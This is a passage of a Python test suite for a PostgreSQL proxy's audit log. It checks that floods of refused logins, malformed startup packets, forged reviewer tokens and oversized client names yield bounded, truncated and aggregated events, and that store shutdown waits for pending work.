            assert any(kind == m.DATA_ROW for kind, _ in client.until_ready())
        with psycopg.connect(proxy.dsn(), autocommit=True, application_name="after-the-bytes") as conn:
            for _ in range(1000):
                conn.execute("SELECT 1", prepare=False).fetchall()
        found = events(proxy)
        assert of(found, "connection.refused", user="ev\\xffil")
        assert of(found, "statement", application_name="app\\xfe\\xff")
        assert len(of(found, "statement", application_name="after-the-bytes")) == 1000
    assert audit_cli("verify", "--config", str(config.source)).returncode == 0


def test_a_flood_of_unauthenticated_attempts_is_bounded_and_counted(pg: PostgresCluster, tmp_path: Path) -> None:
    """Refused logins, malformed startups and forged reviewer tokens, through the real listener
    and web app: the first few are recorded one by one with what the client chose cut short
    (length and SHA-256 kept); the rest are one aggregated event per kind with exact counts."""
    from pgproxy.wire import messages as m
    from tests.harness import RawClient

    per_interval = 4
    flood = AUDIT + f"  unauthenticated_events_per_interval: {per_interval}\n  unauthenticated_interval_seconds: 3600\n"
    config = load_config(audited_config(pg, tmp_path, audit=flood))
    user, database, application = "u" * 4000, "d" * 3000, "a" * 2000
    logins, garbage, decisions = 30, 10, 12
    with running_proxy(config) as proxy:
        with RawClient(proxy.port) as client:  # the first: oversized names, recorded one by one
            client.send(m.StartupMessage({"user": user, "database": database,
                                          "application_name": application}).encode())
            client.read_message()
            client.send(m.PasswordMessage("not-a-token").encode())
            client.until_ready()
        for _ in range(logins - 1):
            with RawClient(proxy.port) as client:
                client.send(m.StartupMessage({"user": "agent", "database": "app"}).encode())
                client.read_message()
                client.send(m.PasswordMessage("not-a-token").encode())
                client.until_ready()
        for _ in range(garbage):
            with RawClient(proxy.port) as client:
                client.send(b"\x00\x00\x00\x10garbage-startup!")
                client.until_ready()
        approval_id = "x" * 4000
        forged = reviewer_token(secret="forged-reviewer-secret-0123456789abc")
        body = {"decision": "approve", "reason": "", "statement_sha256": "0" * 64}
        for _ in range(decisions):
            assert api(proxy, "POST", f"/api/approvals/{approval_id}/decision", body, forged)[0] == 401
    stored = stored_events(tmp_path / "approvals.sqlite3")
    one_by_one = of(stored, "connection.refused") + of(stored, "approval.decision_refused")
    assert len(one_by_one) == per_interval
    first = of(stored, "connection.refused")[0]
    for field, value in (("user", user), ("database", database), ("application_name", application)):
        assert first[field] == (f"{value[:64]}…[{len(value)} chars, "
                                f"sha256:{hashlib.sha256(value.encode()).hexdigest()}]"), field
    assert len(first["reason"]) < 400
    (refused,) = of(stored, "connection.refused.aggregated")
    assert refused["events"] + per_interval == logins + garbage and refused["other_events"] == 0
    assert {(c["client_address"], c["sqlstate"], c["stage"]): c["events"] for c in refused["counts"]} == {
        ("127.0.0.1", "28P01", "authenticating"): logins - per_interval,
        ("127.0.0.1", "0A000", "startup"): garbage}  # "unsupported frontend protocol"
    (decided,) = of(stored, "approval.decision_refused.aggregated")
    assert decided["events"] == decisions
    assert decided["counts"] == [{"client_address": "127.0.0.1", "via": "api", "http_status": 401,
                                  "events": decisions}]
    assert max(len(json.dumps(e)) for e in stored) < 2000  # every event is small, whatever was sent
    assert audit_cli("verify", "--config", str(config.source)).returncode == 0


def test_unauthenticated_events_are_aggregated_per_interval() -> None:
    """The rate bound over time: each interval records its first events one by one and counts
    the rest; its aggregate comes due when it ends, and the next interval starts afresh."""
    from pgproxy.unauthenticated import MAX_KEYS, Unauthenticated

    bound = Unauthenticated(per_interval=2, interval_seconds=60)
    key = {"client_address": "192.0.2.1", "sqlstate": "28P01", "stage": "authenticating"}
    assert [bound.admit("connection.refused", key, 1000 + n) for n in range(5)] == [True, True, False, False, False]
    assert bound.due(1059) == []  # the interval is not over
    (due,) = bound.due(1060)
    assert due[0] == "connection.refused.aggregated"
    assert (due[1]["events"], due[1]["recorded_one_by_one"], due[1]["counts"]) == (3, 2, [{**key, "events": 3}])
    assert bound.admit("connection.refused", key, 1061) and bound.admit("connection.refused", key, 1062)
    for n in range(MAX_KEYS + 50):  # many peers: the event lists MAX_KEYS, the rest are summed
        assert not bound.admit("connection.refused", {**key, "client_address": f"10.0.{n // 256}.{n % 256}"}, 1070)
    (due,) = bound.due(2000, final=True)
    assert due[1]["events"] == MAX_KEYS + 50 and due[1]["other_events"] == 50 and len(due[1]["counts"]) == MAX_KEYS
    assert bound.due(5000, final=True) == []


def test_unauthenticated_limits_are_validated(pg: PostgresCluster, tmp_path: Path) -> None:
    from pgproxy.config import ConfigError

    for line, expected in (("unauthenticated_events_per_interval: -1", "expected an integer of at least 0, got -1"),
                           ("unauthenticated_interval_seconds: 0", "expected a number greater than 0, got 0")):
        path = audited_config(pg, tmp_path, audit=AUDIT + f"  {line}\n")
        number = path.read_text().splitlines().index(f"  {line}") + 1
        with pytest.raises(ConfigError) as raised:
            load_config(path)
        assert str(raised.value) == f"{path}:{number}: audit.{line.split(':')[0]}: {expected}"


async def test_closing_the_store_waits_for_the_operation_in_flight(tmp_path: Path) -> None:
    """An operation whose caller was cancelled (a session gone) still runs in its thread: closing
    the store meanwhile must wait for it (closing a SQLite connection another thread is using
    crashes the process), and nothing may use the store after it is closed."""
    from pgproxy.store import StoreError

    store = SqliteStore(tmp_path / "store.sqlite3")
    await store.open()
    started = threading.Event()
    finished: list[bool] = []

    def slow() -> None:
        started.set()
        time.sleep(0.3)
        store._connection().execute("SELECT 1").fetchall()
        finished.append(True)

    operation = asyncio.ensure_future(store._run(slow))
    await asyncio.to_thread(started.wait)
    operation.cancel()
    await store.close()
    assert finished == [True]  # close came after the thread, not during it
    assert operation.cancelled()
    with pytest.raises(StoreError, match="closed"):
        await store._run(lambda: None)
